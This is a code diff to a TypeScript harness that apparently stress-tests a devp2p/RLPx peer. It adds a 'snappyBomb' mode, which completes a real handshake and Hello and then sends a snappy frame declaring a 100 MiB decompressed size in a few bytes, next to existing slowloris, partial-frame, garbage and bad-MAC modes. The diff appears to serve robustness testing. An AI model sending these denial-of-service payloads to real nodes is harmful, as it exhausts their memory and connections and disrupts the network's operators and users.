@@ -1,6 +1,6 @@
 import net from 'node:net';
-import { generatePrivateKey, randomBytes } from '@status-ts/crypto';
-import { ByteQueue, FrameEncoder, InitiatorHandshake } from '@status-ts/devp2p';
+import { generatePrivateKey, getPublicKey, randomBytes } from '@status-ts/crypto';
+import { ByteQueue, encodeHello, FrameEncoder, InitiatorHandshake } from '@status-ts/devp2p';
 import { runChild } from '../child.js';
 
 /**
@@ -9,11 +9,13 @@ import { runChild } from '../child.js';
  * - `preHello` (item 4): completes the encryption handshake, then sends one valid frame header declaring a
  *   frame of `frameSize` bytes and filler, never the whole body, on `sockets` connections at once;
  * - `garbage`: random bytes instead of an auth message;
- * - `badMac`: a completed handshake followed by frames whose MACs are wrong.
+ * - `badMac`: a completed handshake followed by frames whose MACs are wrong;
+ * - `snappyBomb`: a completed handshake and Hello (snappy on), then a capability message whose snappy body
+ *   declares a 100 MiB decompressed size in a few bytes.
  * Each runs until the parent's `stop` or `durationMs`, then emits what it did.
  */
 export interface RlpxRawConfig {
-  readonly mode: 'slowloris' | 'preHello' | 'garbage' | 'badMac';
+  readonly mode: 'slowloris' | 'preHello' | 'garbage' | 'badMac' | 'snappyBomb';
   readonly host: string;
   readonly port: number;
   /** Node id (hex) of the victim, for the handshake. */
@@ -43,8 +45,8 @@ function open(config: RlpxRawConfig, lane: number): net.Socket {
 }
 
 /** Completes the auth/ack exchange on `socket`; resolves with a frame encoder for the session. */
-function handshake(socket: net.Socket, nodeId: string): Promise<FrameEncoder> {
-  const initiator = new InitiatorHandshake(generatePrivateKey(), Buffer.from(nodeId, 'hex'));
+function handshake(socket: net.Socket, nodeId: string, privateKey: Uint8Array): Promise<FrameEncoder> {
+  const initiator = new InitiatorHandshake(privateKey, Buffer.from(nodeId, 'hex'));
   const queue = new ByteQueue();
   return new Promise((resolve, reject) => {
     const onData = (chunk: Buffer) => {
@@ -80,8 +82,10 @@ async function oneConnection(
   try {
     if (config.mode === 'garbage') {
       socket.once('connect', () => write(randomBytes(1024)));
-    } else if (config.mode === 'preHello' || config.mode === 'badMac') {
-      const encoder = await handshake(socket, config.nodeId);
+    } else if (config.mode === 'preHello' || config.mode === 'badMac' || config.mode === 'snappyBomb') {
+      // Our key: the handshake proves it, and a Hello must carry its public key.
+      const privateKey = generatePrivateKey();
+      const encoder = await handshake(socket, config.nodeId, privateKey);
       tally.handshakes++;
       if (config.mode === 'preHello') {
         // A valid header for a big frame, then filler up to a few bytes short of its end, in 64 KiB writes.
@@ -92,6 +96,17 @@ async function oneConnection(
           write(frame.subarray(at, Math.min(at + 65_536, frame.length - 64)));
           await new Promise((resolve) => setImmediate(resolve));
         }
+      } else if (config.mode === 'snappyBomb') {
+        const hello = encodeHello({
+          protocolVersion: 5,
+          clientId: 'reliability/snappy-bomb',
+          capabilities: [{ name: 'waku', version: 1 }],
+          listenPort: 0,
+          nodeId: getPublicKey(privateKey, 'raw'),
+        });
+        write(encoder.encode(0, hello));
+        // Snappy: a varint length of 100 MiB, then a literal of 4 bytes; the first waku code (0x10).
+        write(encoder.encode(0x10, Uint8Array.of(0x80, 0x80, 0x80, 0x32, 0x0c, 1, 2, 3, 4)));
       } else {
         const frame = encoder.encode(0, randomBytes(100));
         frame[frame.length - 1]! ^= 1;
